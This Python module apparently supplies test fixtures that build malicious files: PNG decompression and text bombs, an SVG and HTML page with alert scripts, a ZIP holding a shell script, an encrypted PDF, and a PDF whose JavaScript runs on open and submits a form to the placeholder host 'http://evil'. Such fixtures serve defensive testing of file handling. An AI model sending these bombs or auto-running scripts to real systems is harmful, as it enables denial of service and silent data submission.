"""Files that mean no good, made on the spot and cheaply."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image

PNG = b"\x89PNG\r\n\x1a\n"


def huge_png(side: int) -> bytes:
    """A black square whose pixels would be `side`² bytes; a few hundred kilobytes at most as a file."""
    rows = 500
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    some = packer.compress(bytes((side + 1) * rows)) + packer.flush(zlib.Z_FULL_FLUSH)  # may be said again and again
    checksum = struct.pack("!HH", (side + 1) * side % 65521, 1)
    packed = b"\x78\xda" + some * (side // rows) + packer.flush() + checksum
    head = struct.pack("!IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return PNG + b"".join(_chunk(*one) for one in ((b"IHDR", head), (b"IDAT", packed), (b"IEND", b"")))


def text_bomb_png() -> bytes:
    """A small picture with a comment that unpacks to a hundred million bytes."""
    bomb = b"Comment\0\0" + zlib.compress(bytes(100_000_000), 9)
    picture = small("PNG")
    return picture[:33] + _chunk(b"zTXt", bomb) + picture[33:]


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))


def small(kind: str, size: tuple[int, int] = (640, 480)) -> bytes:
    """A grey picture."""
    written = io.BytesIO()
    Image.new("RGB", size, (200, 200, 190)).save(written, kind)
    return written.getvalue()


def archive(name: str = "run.sh", text: str = "canary-script") -> bytes:
    """A ZIP file."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as packed:
        packed.writestr(name, text)
    return written.getvalue()


SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert("canary")</script></svg>'
HTML = b"<html><script>alert('canary-script')</script></html>"


def document(pages: int, *, size: tuple[float, float] = (595, 842), more: str = "", catalog: str = "") -> bytes:
    """A PDF with a filled rectangle and a line of text a page; `more` are further objects, numbered from 5."""
    drawing = "0.2 0.2 0.6 rg 60 700 200 40 re f BT /F1 24 Tf 60 600 Td (canary-text 1399/09/15) Tj ET"
    kids = [10 + page for page in range(pages)]
    objects = {
        1: f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        2: f"<< /Type /Pages /Count {pages} /Kids [{' '.join(f'{kid} 0 R' for kid in kids)}] >>",
        3: f"<< /Length {len(drawing)} >>\nstream\n{drawing}\nendstream",
        4: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    page = f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 {size[0]} {size[1]}] /Contents 3 0 R"
    objects.update(dict.fromkeys(kids, f"{page} /Resources << /Font << /F1 4 0 R >> >> >>"))
    return _pdf(objects, more)


def scripted_document() -> bytes:
    """A PDF that runs a script and calls out as soon as it is opened, and brings a file along."""
    script = (
        "5 0 obj << /S /JavaScript /JS (app.alert\\('canary-script'\\); this.submitForm\\('http://evil'\\)) >> endobj"
    )
    names = "/Names << /JavaScript << /Names [(a) 5 0 R] >> >>"
    return document(1, more=script, catalog=f"/OpenAction 5 0 R /AA << /WC 5 0 R >> {names}")


def encrypted_document() -> bytes:
    """A PDF that asks for a password."""
    entry = "<< /Filter /Standard /V 1 /R 2 /Length 40 /P -4 /O <" + "41" * 32 + "> /U <" + "42" * 32 + "> >>"
    return document(1).replace(b"/Root 1 0 R", b"/Root 1 0 R /ID [<01><01>] /Encrypt " + entry.encode())


def _pdf(objects: dict[int, str], more: str) -> bytes:
    body = "%PDF-1.7\n" + "".join(f"{number} 0 obj {text} endobj\n" for number, text in objects.items()) + more
    return f"{body}\ntrailer << /Root 1 0 R /Size {max(objects) + 1} >>\n%%EOF\n".encode("latin-1")
